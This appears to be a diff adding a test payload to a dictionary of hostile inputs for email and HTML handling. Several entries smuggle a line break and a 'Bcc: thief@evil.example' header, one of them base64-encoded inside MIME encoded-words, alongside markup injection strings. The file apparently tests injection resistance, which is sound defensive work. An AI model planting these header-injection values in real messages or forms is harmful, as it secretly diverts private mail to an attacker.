@@ -27,6 +27,7 @@ PAYLOADS = {
     "closing": "</td></tr></table></body></html><h1>Other</h1>",
     "comment": "<!-- x --> <!--% if x %--> ]]>",
     "encoded": "=?utf-8?q?=0D=0ABcc:_thief@evil.example?=",
+    "encoded in words": "a =?utf-8?q?=0D=0A?= =?utf-8?b?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?= b",
     "surrogate": "x\udcffy",
     "boundary": "--===============0==--",
 }
